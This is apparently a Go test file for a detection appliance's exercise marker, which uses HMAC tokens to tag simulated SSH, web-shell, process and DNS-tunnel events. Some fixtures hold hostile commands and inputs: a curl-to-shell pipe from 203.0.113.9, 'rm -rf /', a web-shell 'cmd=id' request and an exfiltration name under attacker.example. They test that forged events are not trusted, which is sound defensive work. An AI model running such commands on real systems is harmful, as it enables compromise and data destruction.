package exercise

import (
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"net/url"
	"strings"
	"testing"
	"time"

	"hoalu/detections"
	"hoalu/ecs"
)

// key is a MAC over a fixed key; older ones still verify.
type key struct{ now, before []byte }

func sum(k, data []byte) []byte {
	h := hmac.New(sha256.New, k)
	h.Write(data)
	return h.Sum(nil)
}

func (k key) ComputeMAC(data []byte) ([]byte, error) { return sum(k.now, data), nil }

func (k key) Versions(data []byte) ([][]byte, error) {
	out := [][]byte{sum(k.now, data)}
	if k.before != nil {
		out = append(out, sum(k.before, data))
	}
	return out, nil
}

var began = time.UnixMilli(1_780_000_000_000)

// event is what an exercise of kind k makes with a token, received after some time.
func event(k Kind, token string, after time.Duration) *ecs.Event {
	e := &ecs.Event{Created: began.Add(after).UnixMilli()}
	switch k {
	case SSH:
		e.SetLogsource("linux", "sshd")
		e.AddString(ecs.SourceIP, Address(token))
		e.AddString(ecs.EventOriginal, `<38>1 - h sshd 1 - [exercise@32473 mark="`+token+`"] Failed password for dientap from `+Address(token)+
			` port 1 ssh2`)
	case Web:
		e.SetLogsource("nginx", "nginx", "webserver")
		e.AddString(ecs.SourceIP, Address(token))
		e.AddString(ecs.URLOriginal, "/uploads/hoalu-dien-tap.php?cmd=id&x="+token)
	case Process:
		e.SetLogsource("linux", "", "process_creation")
		e.AddString(ecs.ProcessCommandLine, "sh -c "+Command(token))
	case DNS:
		e.SetLogsource("hoalu", "packet", "dns")
		e.AddString(ecs.DNSQuestionName, "mzxw6ytboi00."+token+"."+Domain)
	}
	return e
}

func marked(e *ecs.Event) bool { return e.Text(ecs.HoaluExercise) == "true" }

// TestMark: a good token marks, for ten minutes, only events of its kind; nothing else does.
func TestMark(t *testing.T) {
	m := NewMarker(key{now: []byte("k1")})
	tokens, err := m.New(began)
	if err != nil {
		t.Fatal(err)
	}
	other, err := NewMarker(key{now: []byte("another appliance")}).New(began)
	if err != nil {
		t.Fatal(err)
	}
	rotated := NewMarker(key{now: []byte("k2"), before: []byte("k1")})
	flip := func(s string, i int) string {
		c := byte('a')
		if s[i] == 'a' {
			c = 'b'
		}
		return s[:i] + string(c) + s[i+1:]
	}
	for _, k := range Kinds {
		tok := tokens[k]
		if len(tok) != TokenLength || len(tok) > 63-8 {
			t.Fatalf("token %q has %d letters: want %d, and room in a DNS label", tok, len(tok), TokenLength)
		}
		wrong := tokens[Kinds[int(k)%len(Kinds)]]
		for _, c := range []struct {
			name string
			m    *Marker
			e    *ecs.Event
			want bool
		}{
			{"at once", m, event(k, tok, 0), true},
			{"after nine minutes", m, event(k, tok, 9*time.Minute), true},
			{"after eleven minutes", m, event(k, tok, 11*time.Minute), false},
			{"before it was made", m, event(k, tok, -2*time.Minute), false},
			{"after a rotation of the key", rotated, event(k, tok, 0), true},
			{"of another appliance", m, event(k, other[k], 0), false},
			{"of another kind", m, event(k, wrong, 0), false},
			{"time changed", m, event(k, flip(tok, len(Prefix)+5), 0), false},
			{"kind changed", m, event(k, flip(tok, len(Prefix)+7), 0), false},
			{"MAC changed", m, event(k, flip(tok, TokenLength-3), 0), false},
			{"cut", m, event(k, tok[:TokenLength-1], 0), false},
			{"upper case", m, event(k, strings.ToUpper(tok), 0), false},
			{"none", m, event(k, "", 0), false},
		} {
			c.m.Mark(c.e)
			if got := marked(c.e); got != c.want {
				t.Errorf("%s token %s: marked %v, want %v", k, c.name, got, c.want)
			}
		}
		// every letter of it counts, the last one included
		for i := len(Prefix); i < TokenLength; i++ {
			e := event(k, flip(tok, i), 0)
			if m.Mark(e); marked(e) {
				t.Errorf("%s token with letter %d changed still marks", k, i)
			}
		}
	}
}

// TestStolen: who copies a good token into an event of an attack marks nothing.
func TestStolen(t *testing.T) {
	m := NewMarker(key{now: []byte("k1")})
	tokens, err := m.New(began)
	if err != nil {
		t.Fatal(err)
	}
	for name, e := range map[string]*ecs.Event{
		"a log-in from a real address": func() *ecs.Event {
			e := event(SSH, tokens[SSH], 0)
			e.SetString(ecs.SourceIP, "203.0.113.9")
			return e
		}(),
		"a request from a real address": func() *ecs.Event {
			e := event(Web, tokens[Web], 0)
			e.SetString(ecs.SourceIP, "203.0.113.9")
			return e
		}(),
		"another command": func() *ecs.Event {
			e := event(Process, tokens[Process], 0)
			e.SetString(ecs.ProcessCommandLine, "sh -c curl http://203.0.113.9/a|sh # "+tokens[Process])
			return e
		}(),
		"a command before the mark": func() *ecs.Event {
			e := event(Process, tokens[Process], 0)
			e.SetString(ecs.ProcessCommandLine, "sh -c rm -rf /; "+Command(tokens[Process]))
			return e
		}(),
		"a tunnel of its own": func() *ecs.Event {
			e := event(DNS, tokens[DNS], 0)
			e.SetString(ecs.DNSQuestionName, "secret."+tokens[DNS]+"."+Domain+".attacker.example")
			return e
		}(),
		"a process that names the log-in's token": event(Process, tokens[SSH], 0),
		"a sender that says so itself": func() *ecs.Event {
			e := event(SSH, "", 0)
			e.AddBool(ecs.HoaluExercise, true)
			return e
		}(),
	} {
		if m.Mark(e); marked(e) || e.Has(ecs.HoaluExercise) {
			t.Errorf("%s is marked as an exercise", name)
		}
	}
}

// TestFalseTokens: text full of token shapes costs a bounded number of MACs.
func TestFalseTokens(t *testing.T) {
	c := &counting{key: key{now: []byte("k1")}}
	m := NewMarker(c)
	e := &ecs.Event{Created: began.UnixMilli()}
	e.AddString(ecs.Message, strings.Repeat(Prefix+strings.Repeat("a", TokenLength-len(Prefix)), 1000))
	if m.Mark(e); c.n > maxTries || marked(e) {
		t.Errorf("%d MACs for one event, want at most %d; marked %v", c.n, maxTries, marked(e))
	}
}

type counting struct {
	key
	n int
}

func (c *counting) Versions(data []byte) ([][]byte, error) { c.n++; return c.key.Versions(data) }

// TestSame: one token leads to all of its exercise, and to the address it comes from.
func TestSame(t *testing.T) {
	m := NewMarker(key{now: []byte("k1")})
	tokens, err := m.New(began)
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range Kinds {
		got, at, err := m.Same(tokens[k])
		if err != nil || fmt.Sprint(got) != fmt.Sprint(tokens) || !at.Equal(began) {
			t.Errorf("Same(%s) = %v, %v, %v; want %v, %v", k, got, at, err, tokens, began)
		}
		if Address(tokens[k]) != Address(tokens[SSH]) || !strings.HasPrefix(Address(tokens[k]), "198.1") {
			t.Errorf("address of %s is %s, want one of 198.18.0.0/15, the same for all kinds", k, Address(tokens[k]))
		}
	}
	if _, _, err := m.Same(tokens[SSH][:TokenLength-1] + "a"); err == nil && tokens[SSH][TokenLength-1] != 'a' {
		t.Error("a token with another last letter is taken")
	}
}

// TestRules: the rules an exercise expects are in the product's own pack.
func TestRules(t *testing.T) {
	g, err := detections.New(detections.Config{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range Kinds {
		for _, id := range RulesOf[k] {
			if _, ok := g.Rule(id); !ok {
				t.Errorf("%s expects rule %s, which the pack does not have", k, id)
			}
		}
	}
}

// silent is an appliance that takes everything and raises only some alerts.
type silent struct {
	plan   Plan
	alerts []Alert
	sent   []string
}

func (c *silent) Call(ctx context.Context, method, path string, q url.Values, body io.Reader, v any) error {
	if body != nil {
		raw, err := io.ReadAll(body)
		if err != nil {
			return err
		}
		c.sent = append(c.sent, q.Get("format")+" "+string(raw))
	}
	switch v := v.(type) {
	case *Plan:
		*v = c.plan
	case *struct{ Alerts []Alert }:
		v.Alerts = c.alerts
	}
	return nil
}

// TestMissing: an alert that does not appear in time is named; one whose rule is switched off is not waited for.
func TestMissing(t *testing.T) {
	m := NewMarker(key{now: []byte("k1")})
	tokens, err := m.New(began)
	if err != nil {
		t.Fatal(err)
	}
	c := &silent{plan: Plan{Token: tokens[SSH], Tokens: map[string]string{}, Host: "h"},
		alerts: []Alert{{Number: "CB-2026-000001", Rule: RuleWebShell, Title: map[string]string{"vi": "w", "en": "w"}}}}
	for k, s := range tokens {
		c.plan.Tokens[k.String()] = s
	}
	for _, x := range []Expected{{Rule: RuleWebShell, Kind: "web"}, {Rule: RuleDNSTunnel, Kind: "dns"},
		{Rule: RuleGuessed, Kind: "ssh", Off: true}} {
		x.Title = map[string]string{"vi": "v " + x.Kind, "en": "the " + x.Kind + " alert"}
		c.plan.Expect = append(c.plan.Expect, x)
	}
	var out strings.Builder
	err = Play(t.Context(), c, &out, 10*time.Millisecond)
	if !errors.Is(err, ErrMissing) || !strings.Contains(err.Error(), "the dns alert") || strings.Contains(err.Error(), "the web alert") ||
		strings.Contains(err.Error(), "the ssh alert") {
		t.Errorf("Play: %v, want ErrMissing that names the DNS alert only", err)
	}
	if !strings.Contains(out.String(), "CB-2026-000001") || !strings.Contains(out.String(), "Left out: the rule “the ssh alert”") {
		t.Errorf("Play printed\n%s", out.String())
	}
	// everything it sends over the control socket carries a good mark
	if len(c.sent) != 4 {
		t.Fatalf("%d messages sent, want 4", len(c.sent))
	}
	for _, s := range c.sent {
		for l := range strings.Lines(s) {
			if !m.Holds(l, began) {
				t.Errorf("no good mark in %s", l)
			}
		}
	}
}

func BenchmarkMark(b *testing.B) {
	m := NewMarker(key{now: []byte("k1")})
	e := &ecs.Event{Created: began.UnixMilli()}
	for i := range 30 {
		e.AddString(ecs.Intern(fmt.Sprint("field", i)), strings.Repeat("GET /dich-vu-cong/hoso ", 2))
	}
	b.ReportAllocs()
	for b.Loop() {
		m.Mark(e)
	}
}
